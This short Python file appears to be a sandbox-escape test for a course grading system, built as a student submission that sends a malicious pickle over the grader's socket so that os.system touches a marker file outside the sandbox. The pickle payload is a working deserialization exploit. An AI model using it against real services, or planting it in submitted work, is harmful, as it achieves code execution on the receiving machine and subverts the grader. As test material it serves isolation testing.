# A pickle that runs a command, where plain data is expected.
# stock: nothing (the attack is on the crossing)
import os
import pickle
import struct

import course.grading.student as crossing


class Command:
    def __reduce__(self):
        return os.system, ("touch '@OUTSIDE@/pickle'",)


data = pickle.dumps(Command())
crossing._sessions[0].channel.sock.sendall(struct.pack(">I", len(data)) + data)


def double(x):
    return None
